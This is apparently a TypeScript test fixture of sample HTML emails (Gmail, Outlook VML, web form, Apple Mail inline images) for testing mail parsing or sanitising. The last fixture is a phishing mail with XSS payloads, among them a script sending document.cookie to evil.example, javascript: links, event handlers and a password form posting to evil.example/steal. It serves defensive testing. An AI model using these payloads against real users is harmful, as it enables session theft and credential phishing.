import { base64Lines, byteString, quotedPrintable } from '../lib/mime.js';
import { assets } from './assets.js';
import { CRLF, type FixtureMail, LF, m } from './mail.js';

/**
 * HTML mails: multipart/alternative, Outlook conditional comments and VML, HTML only,
 * multipart/related with inline images, and a hostile phishing page.
 */

const outlookHtml = `<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" xmlns="http://www.w3.org/TR/REC-html40">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<meta name="Generator" content="Microsoft Word 15 (filtered medium)">
<!--[if !mso]><style>v\\:* {behavior:url(#default#VML);}
o\\:* {behavior:url(#default#VML);}
w\\:* {behavior:url(#default#VML);}
.shape {behavior:url(#default#VML);}
</style><![endif]--><style><!--
/* Font Definitions */
@font-face
\t{font-family:"Cambria Math";
\tpanose-1:2 4 5 3 5 4 6 3 2 4;}
@font-face
\t{font-family:Calibri;
\tpanose-1:2 15 5 2 2 2 4 3 2 4;}
/* Style Definitions */
p.MsoNormal, li.MsoNormal, div.MsoNormal
\t{margin:0cm;
\tfont-size:11.0pt;
\tfont-family:"Calibri",sans-serif;
\tmso-ligatures:standardcontextual;}
a:link, span.MsoHyperlink
\t{mso-style-priority:99;
\tcolor:#0563C1;
\ttext-decoration:underline;}
.MsoChpDefault
\t{mso-style-type:export-only;}
@page WordSection1
\t{size:612.0pt 792.0pt;
\tmargin:72.0pt 72.0pt 72.0pt 72.0pt;}
div.WordSection1
\t{page:WordSection1;}
--></style><!--[if gte mso 9]><xml>
<o:shapedefaults v:ext="edit" spidmax="1026" />
</xml><![endif]--><!--[if gte mso 9]><xml>
<o:shapelayout v:ext="edit">
<o:idmap v:ext="edit" data="1" />
</o:shapelayout></xml><![endif]-->
</head>
<body lang="EN-US" link="#0563C1" vlink="#954F72" style="word-wrap:break-word">
<div class="WordSection1">
<p class="MsoNormal">Hi Service Desk,<o:p></o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal">Our invoice run failed again tonight. The job log shows <b>&quot;timeout after 300 s&quot;</b> for the export step.<o:p></o:p></p>
<p class="MsoNormal">This blocks month-end closing, so we need help <span style="color:red">today</span>.<o:p></o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<!--[if mso]>
<v:roundrect xmlns:v="urn:schemas-microsoft-com:vml" xmlns:w="urn:schemas-microsoft-com:office:word" href="https://portal.corp.example.com/jobs/8812" style="height:36px;v-text-anchor:middle;width:180px;" arcsize="10%" strokecolor="#1F5C99" fillcolor="#1F5C99">
<w:anchorlock/>
<center style="color:#ffffff;font-family:sans-serif;font-size:13px;font-weight:bold;">Open job 8812</center>
</v:roundrect>
<![endif]--><!--[if !mso]><!-- --><a href="https://portal.corp.example.com/jobs/8812" style="background-color:#1F5C99;border-radius:4px;color:#ffffff;display:inline-block;font-family:sans-serif;font-size:13px;font-weight:bold;line-height:36px;text-align:center;text-decoration:none;width:180px;">Open job 8812</a><!--<![endif]-->
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal">Med vennlig hilsen / Kind regards<o:p></o:p></p>
<p class="MsoNormal"><b>Ingrid Berg</b><o:p></o:p></p>
<p class="MsoNormal">Finance Systems | Corp Example AS<o:p></o:p></p>
</div>
</body>
</html>`;

export const HTML: FixtureMail[] = [
  m(
    '003-gmail-multipart-alternative',
    CRLF,
    `Delivered-To: support@acme.example
Received: by 2002:a05:7108:1a4e:b0:3a1:2f7e:5c91 with SMTP id bn14csp1736512gdb;
        Mon, 3 Mar 2025 01:14:51 -0800 (PST)
DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;
        d=gmail.com; s=20230601; t=1740993290; x=1741598090; darn=acme.example;
        h=to:subject:message-id:date:from:mime-version:from:to:cc:subject
         :date:message-id:reply-to;
        bh=47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=;
        b=Qm9ndXNTaWduYXR1cmVGb3JGaXh0dXJlc09ubHlOb3RSZWFsbHlWYWxpZA==
MIME-Version: 1.0
From: Lars Olsen <lars.olsen.1987@gmail.com>
Date: Mon, 3 Mar 2025 10:14:39 +0100
Message-ID: <CAF3x9qN8bX1kz+ZQvE0hT5m2pYdW7o0aUe2Lr4cJqB6nS1iKpA@mail.gmail.com>
Subject: Order 55120 arrived damaged
To: support@acme.example
Content-Type: multipart/alternative; boundary="000000000000a8c3f2062f6b1d4e"

--000000000000a8c3f2062f6b1d4e
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

${quotedPrintable(
  byteString(`Hi,

my order 55120 arrived today, but the box was crushed and the monitor stand is bent. I attached nothing yet — can you tell me how you want the photos?

Thanks,
Lars`),
)}

--000000000000a8c3f2062f6b1d4e
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

${quotedPrintable(byteString(`<div dir="ltr"><div>Hi,</div><div><br></div><div>my order 55120 arrived today, but the box was crushed and the monitor stand is bent. I attached nothing yet — can you tell me how you want the photos?</div><div><br></div><div>Thanks,</div><div>Lars</div></div>`))}

--000000000000a8c3f2062f6b1d4e--
`,
  ),
  m(
    '004-outlook-html-conditional-vml',
    CRLF,
    `Received: from DB9PR02MB7321.eurprd02.prod.outlook.com (2603:10a6:10:2a5::14)
 by AS8PR02MB9952.eurprd02.prod.outlook.com with HTTPS; Mon, 3 Mar 2025
 09:31:07 +0000
From: Ingrid Berg <ingrid.berg@corp.example.com>
To: Service Desk <support@acme.example>
Subject: URGENT: invoice run failed again
Thread-Topic: URGENT: invoice run failed again
Thread-Index: AdmN4aQ7b2xkX2ludm9pY2VfcnVuX2ZhaWxlZA==
Importance: high
X-Priority: 1
Date: Mon, 3 Mar 2025 09:31:05 +0000
Message-ID: <DB9PR02MB73210C6F5A2B9E1D4C7F3E8A9BD72@DB9PR02MB7321.eurprd02.prod.outlook.com>
Accept-Language: en-US, nb-NO
Content-Language: en-US
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
x-ms-publictraffictype: Email
x-ms-exchange-senderadcheck: 1
Content-Type: multipart/alternative;
\tboundary="_000_DB9PR02MB73210C6F5A2B9E1D4C7F3E8A9BD72DB9PR02MB7321eurp_"
MIME-Version: 1.0

--_000_DB9PR02MB73210C6F5A2B9E1D4C7F3E8A9BD72DB9PR02MB7321eurp_
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: base64

${base64Lines(
  byteString(`Hi Service Desk,

Our invoice run failed again tonight. The job log shows "timeout after 300 s" for the export step.
This blocks month-end closing, so we need help today.

Open job 8812 <https://portal.corp.example.com/jobs/8812>

Med vennlig hilsen / Kind regards
Ingrid Berg
Finance Systems | Corp Example AS
`),
)}

--_000_DB9PR02MB73210C6F5A2B9E1D4C7F3E8A9BD72DB9PR02MB7321eurp_
Content-Type: text/html; charset="utf-8"
Content-Transfer-Encoding: quoted-printable

${quotedPrintable(byteString(outlookHtml))}

--_000_DB9PR02MB73210C6F5A2B9E1D4C7F3E8A9BD72DB9PR02MB7321eurp_--
`,
  ),
  m(
    '005-html-only-web-form',
    LF,
    `Return-Path: <www-data@web01.acme.example>
Received: from web01.acme.example (web01.acme.example [198.51.100.21])
\tby mx.acme.example (Postfix) with ESMTP id 4Q1x7K2mZtz9sQr
\tfor <support@acme.example>; Mon,  3 Mar 2025 11:02:40 +0100 (CET)
Date: Mon, 3 Mar 2025 11:02:40 +0100
To: support@acme.example
From: ACME Website <no-reply@acme.example>
Reply-To: Sofie Lund <sofie.lund@example.dk>
Subject: Contact form: question about SLA
Message-ID: <kQ7uV2rX9bN4mC1pZ8yT5wE3sA6dF0gH@web01.acme.example>
X-Mailer: PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: 8bit

${byteString(`<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Contact form</title></head>
<body style="font-family:Arial,sans-serif">
<h2>New contact form submission</h2>
<table cellpadding="4" border="1" style="border-collapse:collapse">
<tr><th align="left">Name</th><td>Sofie Lund</td></tr>
<tr><th align="left">E-mail</th><td><a href="mailto:sofie.lund@example.dk">sofie.lund@example.dk</a></td></tr>
<tr><th align="left">Company</th><td>Lund &amp; Søn ApS</td></tr>
<tr><th align="left">Message</th><td>Hej! Does the Gold SLA include weekend support,<br>and what is the response time for priority&nbsp;1?</td></tr>
</table>
<p style="color:#888;font-size:11px">Sent from https://www.acme.example/contact at 2025-03-03 11:02:40</p>
</body></html>`)}
`,
  ),
  m(
    '006-apple-mail-related-inline-images',
    LF,
    `Return-Path: <emma.strand@example.se>
Received: from smtpclient.apple (c-203-0-113-45.example.se [203.0.113.45])
\tby smtp.example.se (Postfix) with ESMTPSA id 8B1C2D3E4F
\tfor <support@acme.example>; Mon,  3 Mar 2025 12:20:01 +0100 (CET)
From: Emma Strand <emma.strand@example.se>
Content-Type: multipart/alternative;
\tboundary="Apple-Mail=_6F3A1C2B-9D8E-4F70-A1B2-C3D4E5F60718"
Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3774.600.62\\))
Subject: Error dialog when exporting report
Message-Id: <9C1F2A3B-4D5E-6F70-8192-A3B4C5D6E7F8@example.se>
Date: Mon, 3 Mar 2025 12:19:48 +0100
To: support@acme.example
X-Mailer: Apple Mail (2.3774.600.62)


--Apple-Mail=_6F3A1C2B-9D8E-4F70-A1B2-C3D4E5F60718
Content-Transfer-Encoding: quoted-printable
Content-Type: text/plain;
\tcharset=utf-8

${quotedPrintable(
  byteString(`Hi,

when I export the monthly report I get this dialog:



Then the app closes. Our logo is below for reference.



Emma Strand
Strand Design AB`),
)}
--Apple-Mail=_6F3A1C2B-9D8E-4F70-A1B2-C3D4E5F60718
Content-Type: multipart/related;
\ttype="text/html";
\tboundary="Apple-Mail=_1A2B3C4D-5E6F-4708-9192-A3B4C5D6E7F9"


--Apple-Mail=_1A2B3C4D-5E6F-4708-9192-A3B4C5D6E7F9
Content-Transfer-Encoding: quoted-printable
Content-Type: text/html;
\tcharset=utf-8

${quotedPrintable(byteString(`<html aria-label="message body"><head><meta http-equiv="content-type" content="text/html; charset=utf-8"></head><body style="overflow-wrap: break-word; -webkit-nbsp-mode: space; line-break: after-white-space;">Hi,<div><br></div><div>when I export the monthly report I get this dialog:</div><div><br></div><div><img apple-inline="yes" id="7E2B1C4D-0F9A-4B8C-9D1E-2F3A4B5C6D7E" src="cid:C3D4E5F6-0718-4293-A4B5-C6D7E8F90A1B" alt="Screenshot 2025-03-03 at 12.17.55.png"></div><div><br></div><div>Then the app closes. Our logo is below for reference.</div><div><br></div><div><img apple-inline="yes" id="8F3C2D5E-1A0B-4C9D-8E2F-3A4B5C6D7E8F" src="cid:D4E5F607-1829-43A4-B5C6-D7E8F90A1B2C" alt="logo.png"><img src="cid:E5F60718-293A-44B5-C6D7-E8F90A1B2C3D" width="1" height="1" alt=""></div><div><br></div><div>Emma Strand</div><div>Strand Design AB</div></body></html>`))}
--Apple-Mail=_1A2B3C4D-5E6F-4708-9192-A3B4C5D6E7F9
Content-Transfer-Encoding: base64
Content-Disposition: inline;
\tfilename="Screenshot 2025-03-03 at 12.17.55.png"
Content-Type: image/png;
\tx-unix-mode=0644;
\tname="Screenshot 2025-03-03 at 12.17.55.png"
Content-Id: <C3D4E5F6-0718-4293-A4B5-C6D7E8F90A1B>

${base64Lines(assets.screenshotPng)}
--Apple-Mail=_1A2B3C4D-5E6F-4708-9192-A3B4C5D6E7F9
Content-Transfer-Encoding: base64
Content-Disposition: inline;
\tfilename=logo.png
Content-Type: image/png;
\tx-unix-mode=0644;
\tname="logo.png"
Content-Id: <D4E5F607-1829-43A4-B5C6-D7E8F90A1B2C>

${base64Lines(assets.logoPng)}
--Apple-Mail=_1A2B3C4D-5E6F-4708-9192-A3B4C5D6E7F9
Content-Transfer-Encoding: base64
Content-Disposition: inline;
\tfilename=spacer.gif
Content-Type: image/gif;
\tname="spacer.gif"
Content-Id: <E5F60718-293A-44B5-C6D7-E8F90A1B2C3D>

${base64Lines(assets.gif)}
--Apple-Mail=_1A2B3C4D-5E6F-4708-9192-A3B4C5D6E7F9--

--Apple-Mail=_6F3A1C2B-9D8E-4F70-A1B2-C3D4E5F60718--
`,
  ),
  m(
    '047-html-hostile-markup',
    LF,
    `Return-Path: <offers@promo.example>
From: "Security Team" <offers@promo.example>
To: support@acme.example
Subject: Action required: verify your mailbox
Date: Wed, 12 Mar 2025 02:13:00 +0100
Message-ID: <phish-20250312021300@promo.example>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: quoted-printable

${quotedPrintable(
  byteString(`<html><head><style>body{background:url(javascript:alert(1))}</style><script>fetch('https://evil.example/c?'+document.cookie)</script><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"></head>
<body onload="alert('x')">
<p>Your mailbox is full. <a href="javascript:alert(document.domain)">Verify now</a> or <a href="https://evil.example/login" target="_top">log in here</a>.</p>
<img src="x" onerror="alert(1)"><img src="https://track.promo.example/open.gif?id=77" width="1" height="1">
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Send</button></form>
<svg><script>alert(2)</script><a xlink:href="javascript:alert(3)"><text y="20">click</text></a></svg>
<object data="https://evil.example/x.swf"></object>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(4)">encoded</a>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:white">overlay</div>
</body></html>`),
)}
`,
  ),
];
